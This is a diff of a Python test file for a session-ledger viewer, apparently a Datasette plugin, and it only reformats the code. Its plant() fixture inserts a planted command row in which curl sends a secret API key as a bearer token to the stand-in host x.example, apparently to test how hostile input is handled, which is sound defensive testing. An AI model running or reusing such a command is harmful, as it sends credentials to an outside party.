@@ -131,8 +131,11 @@ async def test_followers_get_every_new_row_once_and_never_block_the_writer(home,
     writer = LiveWriter(home, sid, rate=50, seed=11).start()
     wait_for_writer(ledger)
     # --last covers the whole window: the CLI prints what it finds first, then what follows.
-    cli = run_cli(["capsem", "tail", sid, "--json", "--interval", "0.2", "--last", "100000"],
-                  home, tmp_path / "cli-cache")  # fmt: skip
+    cli = run_cli(
+        ["capsem", "tail", sid, "--json", "--interval", "0.2", "--last", "100000"],
+        home,
+        tmp_path / "cli-cache",
+    )
     stop = asyncio.Event()
     seen: list[dict] = [{}, {}, {}]
     tasks = [asyncio.create_task(poller(datasette, sid, start["cursor"], s, stop)) for s in seen]
@@ -175,9 +178,11 @@ async def test_many_viewers_of_one_file_version_cost_one_read(home, session, tmp
     datasette = await make_datasette(home, tmp_path / "cache")
     cache = get_state(datasette).follow
     responses = await asyncio.gather(
-        *(datasette.client.get(f"/-/capsem/sessions/{sid}/delta.json?since=net_events:0")
-          for _ in range(12))
-    )  # fmt: skip
+        *(
+            datasette.client.get(f"/-/capsem/sessions/{sid}/delta.json?since=net_events:0")
+            for _ in range(12)
+        )
+    )
     assert all(r.status_code == 200 for r in responses)
     assert cache.computations == 1
     for _ in range(5):
@@ -223,9 +228,14 @@ def plant(ledger: Path) -> None:
     conn.execute(
         "INSERT INTO exec_events (event_id, timestamp, exec_id, command, exit_code, trace_id)"
         " VALUES (?, ?, ?, ?, 0, NULL)",
-        ("a1b2c3d4e5f6", "2099-01-01T00:00:00Z", "planted", f"{HOSTILE} OPENAI_API_KEY={SECRET}"
-         f" curl -H 'Authorization: Bearer {SECRET}' https://x.example/"),
-    )  # fmt: skip
+        (
+            "a1b2c3d4e5f6",
+            "2099-01-01T00:00:00Z",
+            "planted",
+            f"{HOSTILE} OPENAI_API_KEY={SECRET}"
+            f" curl -H 'Authorization: Bearer {SECRET}' https://x.example/",
+        ),
+    )
     conn.close()
 
 
@@ -380,9 +390,13 @@ async def test_a_live_trace_page_follows_its_own_rows(home, session, tmp_path):
                 )
             ).json()
             trace_id = next(
-                (r["trace_id"] for r in data["rows"] if r["kind"] == "model_calls" and
-                 r["trace_id"] and len(r["trace_id"]) == 36), None,
-            )  # fmt: skip
+                (
+                    r["trace_id"]
+                    for r in data["rows"]
+                    if r["kind"] == "model_calls" and r["trace_id"] and len(r["trace_id"]) == 36
+                ),
+                None,
+            )
             await asyncio.sleep(0.1)
         page = await datasette.client.get(f"/-/capsem/sessions/{sid}/traces/{trace_id}")
         assert page.status_code == 200
